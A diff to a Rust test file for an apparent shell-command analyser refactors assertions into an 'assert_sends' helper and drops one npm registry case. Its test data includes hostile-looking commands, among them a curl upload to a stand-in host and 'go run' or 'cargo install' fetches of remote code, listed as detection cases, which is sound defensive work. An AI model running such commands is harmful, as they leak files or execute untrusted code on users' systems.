@@ -249,6 +249,11 @@ fn sends(text: &str) -> bool {
         .any(|leak| leak.sink != weir_model::contents::SinkKind::Process)
 }
 
+fn assert_sends(command: &str, is_sent: bool) {
+    let leaks = plain(command).leaks;
+    assert_eq!(sends(command), is_sent, "{command}: {leaks:?}");
+}
+
 #[test]
 fn folders_of_credentials_are_sent_whole() {
     for (command, is_sent) in [
@@ -284,12 +289,7 @@ fn folders_of_credentials_are_sent_whole() {
         ),
         ("find . -name '*.map' | curl -T - https://c.invalid", false),
     ] {
-        assert_eq!(
-            sends(command),
-            is_sent,
-            "{command}: {:?}",
-            plain(command).leaks
-        );
+        assert_sends(command, is_sent);
     }
 }
 
@@ -344,12 +344,7 @@ fn more_ways_out_are_known() {
             false,
         ),
     ] {
-        assert_eq!(
-            sends(command),
-            is_sent,
-            "{command}: {:?}",
-            plain(command).leaks
-        );
+        assert_sends(command, is_sent);
     }
 }
 
@@ -364,10 +359,6 @@ fn more_ways_in_are_known() {
         ("npm install --registry=https://r.invalid/ x", true),
         ("cargo install --git https://git.invalid/x", true),
         ("go run git.invalid/x@latest", true),
-        (
-            "npm install --registry https://registry.npmjs.org/ x",
-            false,
-        ),
         ("npm install --registry https://r.invalid/", false),
         ("npm install --registry http://127.0.0.1:4873/ x", false),
         ("go run ./cmd/x.go", false),
